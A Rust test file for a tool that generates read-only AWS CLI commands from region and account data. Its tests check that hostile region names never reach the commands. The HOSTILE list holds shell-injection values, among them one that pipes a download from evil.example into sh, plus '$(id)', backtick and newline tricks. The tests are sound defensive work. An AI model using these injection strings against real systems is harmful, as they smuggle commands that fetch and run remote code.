//! The commands that the page shows.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{CLOSING, account, now};
use evidence::commands::Asked;
use evidence::kind::Kind;
use evidence::problem::Problem;

fn commands(kind: Kind, regions: &[&str]) -> Vec<String> {
    let texts = |names: &[&str]| {
        names
            .iter()
            .map(|name| (*name).to_owned())
            .collect::<Vec<_>>()
    };
    kind.commands(&Asked {
        account: Some(account(CLOSING)),
        regions: &texts(regions),
        now: now(),
    })
}

#[test]
fn one_for_each_region() {
    assert_eq!(
        commands(Kind::CopyJobs, &["eu-west-1", "us-east-1"]),
        [
            "aws backup list-copy-jobs --region eu-west-1 --output json",
            "aws backup list-copy-jobs --region us-east-1 --output json",
        ]
    );
    assert_eq!(
        commands(Kind::RecoveryPoints, &["eu-west-1"]),
        [
            "aws backup list-recovery-points-by-backup-vault --backup-vault-name VAULT --region eu-west-1 --output json",
        ]
    );
    assert_eq!(
        commands(Kind::CopyJobs, &[]),
        ["aws backup list-copy-jobs --region REGION --output json"]
    );
}

/// Names that a shell reads as more than a word.
const HOSTILE: [&str; 12] = [
    "eu-west-1; curl -s https://evil.example/x|sh #",
    "us-east-1 && id",
    "$(id)",
    "`id`",
    "eu-west-2\nid",
    "eu-west-2\u{2028}id",
    "--endpoint-url",
    "a'b",
    "a\"b",
    "a\\b",
    "~",
    "",
];

#[test]
fn nothing_from_a_file_becomes_more_than_a_word() {
    for name in HOSTILE {
        for kind in Kind::ALL {
            let with = commands(*kind, &[name, "eu-west-1"]);
            assert_eq!(with, commands(*kind, &["eu-west-1"]), "{name:?}");
        }
        let text = serde_json::json!({ "Regions": [
            { "RegionName": name, "RegionOptStatus": "ENABLED" },
            { "RegionName": "eu-west-1", "RegionOptStatus": "ENABLED" },
        ] });
        let (source, facts) = common::file(text.to_string());
        let regions = facts.regions.expect("one can be read");
        assert_eq!(regions.in_use, ["eu-west-1"], "{name:?}");
        assert!(source.problems.contains(&Problem::UnreadableElement));
    }
}

#[test]
fn account_and_dates_are_filled_in() {
    assert_eq!(
        commands(Kind::Account, &[]),
        ["aws organizations describe-account --account-id 210987654321 --output json"]
    );
    assert_eq!(
        commands(Kind::CostByService, &[]),
        [
            "aws ce get-cost-and-usage --time-period Start=2026-07-09,End=2026-10-09 --granularity MONTHLY --metrics UnblendedCost --group-by Type=DIMENSION,Key=SERVICE --output json"
        ]
    );
    let asked = Asked {
        account: None,
        regions: &[],
        now: now(),
    };
    assert_eq!(
        Kind::DelegatedServices.commands(&asked),
        [
            "aws organizations list-delegated-services-for-account --account-id ACCOUNT --output json"
        ]
    );
}

#[test]
fn every_kind_but_the_console_export_has_one() {
    for kind in Kind::ALL {
        let commands = commands(*kind, &["eu-west-1"]);
        assert_eq!(
            commands.is_empty(),
            *kind == Kind::TagEditor || kind.is_collected(),
            "{}",
            kind.name()
        );
        for command in commands {
            assert!(
                command.starts_with("aws ") && command.ends_with(" --output json"),
                "{command}"
            );
            assert!(
                !command.contains("secret") && !command.contains("decrypt"),
                "{command}"
            );
        }
    }
}
